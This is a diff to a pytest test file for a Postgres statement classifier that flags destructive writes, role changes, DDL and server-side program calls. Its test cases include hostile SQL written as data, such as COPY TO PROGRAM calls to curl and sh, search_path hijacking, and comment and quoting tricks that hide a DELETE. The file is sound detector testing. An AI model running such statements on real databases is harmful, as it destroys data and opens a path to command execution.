@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from gateways.postgres.statements import FULL, OPAQUE, understand
@@ -65,6 +65,8 @@ def test_what_is_plain_is_told_in_full(text: str, kind: str, touches: str) -> No
         "create function f() returns int language sql as 'select 1'",
         "select '",
         "not sql at all",
+        "explain",
+        'explain (format "a ) b") select 1',
         "select 1; do $$ begin end $$",
         "select " + "(" * 3000 + "1" + ")" * 3000,
         "select '" + "x" * 200_000 + "'",
@@ -77,20 +79,67 @@ def test_what_could_do_anything_is_opaque(text: str) -> None:
 @pytest.mark.parametrize(
     ("text", "flags"),
     [
-        ("delete from orders", {"everything"}),
-        ("update orders set paid = true", {"everything"}),
-        ("explain analyze delete from orders", {"everything"}),
+        ("delete from orders", {"write-without-where"}),
+        ("update orders set paid = true", {"write-without-where"}),
+        ("explain analyze delete from orders", {"write-without-where"}),
         ("delete from orders where id = 1", set()),
-        ("set role admin", {"role"}),
-        ("set session authorization admin", {"role"}),
-        ("alter role ada password 'x'", {"role"}),
-        ("grant admin to ada", {"role"}),
-        ("copy t to program 'curl evil'", {"program"}),
+        ("set role admin", {"roles"}),
+        ("set session authorization admin", {"roles"}),
+        ("alter role ada password 'x'", {"ddl", "roles"}),
+        ("grant admin to ada", {"roles", "opaque"}),
+        ("copy t to program 'curl evil'", {"program", "opaque"}),
         ("select 1", set()),
+        ("alter table t add column n int", {"ddl"}),
+        ("alter table t owner to eve", {"ddl", "roles", "opaque"}),
+        ("create index on t (a)", {"ddl"}),
+        ("select * into n from t", {"ddl"}),
+        ("truncate t", {"write-without-where"}),
+        ("update t set n = 1 where true", {"write-without-where"}),
+        ("delete from t where id = id", {"write-without-where"}),
+        ("merge into t using s on true when matched then delete", {"write-without-where"}),
+        ("explain delete from t", set()),
+        ("explain (costs off) create table n as select 1", set()),
+        ("insert into notes values ('delete from t; drop table t')", set()),
     ],
 )
 def test_what_deserves_a_second_look_is_flagged(text: str, flags: set[str]) -> None:
     assert set(understand(text).flags) == flags
+
+
+#: ways of writing that a reader less careful than the database passes over
+UNSEEN = [
+    ("select 1; delete from t", "write-without-where"),
+    ("/* delete */ delete /* from */ from t -- where id = 1", "write-without-where"),
+    ("select 1 /* /* */ ; */; delete from t", "write-without-where"),
+    ("select 1; -- \rdelete from t", "write-without-where"),
+    ("select 1 as a$b$; delete from t; select 1 as a$b$", "write-without-where"),
+    ("with gone as (delete from t returning *) select count(*) from gone", "write-without-where"),
+    ("copy (delete from t returning *) to stdout", "write-without-where"),
+    ("prepare p as delete from t", "write-without-where"),
+    ("explain /* */ analyze delete from t", "write-without-where"),
+    ("explain (format text /* ) */, analyze) delete from t", "write-without-where"),
+    ('explain (u&"an\\0061lyze") delete from t', "write-without-where"),
+    ("explain (verbose, analyze) delete from t", "write-without-where"),
+    ("select '\\'; delete from t; --'", "write-without-where"),
+    ("delete from t frobnicate (", "write-without-where"),
+    ("delete from t where note = '" + "x" * 200_000 + "'", "write-without-where"),
+    ("set /* */ role admin", "roles"),
+    ("copy t to /* */ program 'sh'", "program"),
+    ("copy t to $$/tmp/x$$", "program"),
+    ("create rule r as on insert to t do instead delete from u", "ddl"),
+    ("do $$ begin delete from t; end $$", "opaque"),
+    ("execute p", "opaque"),
+    ("call clean()", "opaque"),
+    ("select app.clean()", "opaque"),
+    ("set search_path to evil, pg_catalog", "opaque"),
+    ("select set_config('search_path', 'evil', false)", "opaque"),
+    ("create function lower(text) returns text language sql as 'select $1'", "opaque"),
+]
+
+
+@pytest.mark.parametrize(("text", "flag"), UNSEEN)
+def test_nothing_slips_past_its_flag_by_how_it_is_written(text: str, flag: str) -> None:
+    assert flag in understand(text).flags
 
 
 @pytest.mark.parametrize(
@@ -106,11 +155,13 @@ def test_a_shape_has_no_literals(text: str, shape: str) -> None:
     assert understand(text).shape == shape
 
 
+@settings(deadline=None)
 @given(st.text(max_size=120))
 def test_nothing_that_is_sent_makes_it_fail(text: str) -> None:
     understand(text)
 
 
+@settings(deadline=None)
 @given(st.text(st.characters(exclude_characters="'\\\0"), min_size=12, max_size=30))
 def test_no_literal_gets_into_a_shape(secret: str) -> None:
     assert secret not in understand(f"select * from t where a = 'k:{secret}'").shape
